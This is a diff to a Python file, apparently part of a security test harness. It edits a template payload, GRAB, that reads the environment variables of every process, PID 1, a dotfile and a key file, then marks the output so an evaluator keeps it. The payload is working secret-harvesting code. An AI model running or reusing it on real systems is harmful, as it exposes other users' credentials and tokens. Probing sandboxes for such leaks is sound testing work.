@@ -127,17 +127,16 @@ GRAB = """
 import os, sys
 
 def _grab():
-    found = ["HOSTILE-RAN"]
-    paths = [f"/proc/{{os.getppid()}}/environ", "/proc/1/environ", {dotfile!r}, os.path.expanduser("~/.tik-key")]
-    for pid in os.listdir("/proc"):
-        if pid.isdigit():
-            paths.append(f"/proc/{{pid}}/environ")
+    found = ["HOSTILE-RAN", repr(dict(os.environ))]
+    # Every process first, the secrets' likeliest homes last: the evaluator keeps a message's
+    # tail, and on a busy machine the other processes' environments alone outgrow it.
+    paths = [f"/proc/{{pid}}/environ" for pid in os.listdir("/proc") if pid.isdigit()]
+    paths += [f"/proc/{{os.getppid()}}/environ", "/proc/1/environ", {dotfile!r}, os.path.expanduser("~/.tik-key")]
     for path in paths:
         try:
             found.append(open(path, "rb").read().decode(errors="replace").replace("\\0", " "))
         except Exception as exc:
             found.append(f"{{path}}: {{type(exc).__name__}}")
-    found.append(repr(dict(os.environ)))
     return " | ".join(found + ["HOSTILE-RAN"])  # at both ends: the evaluator keeps a message's tail
 """
 
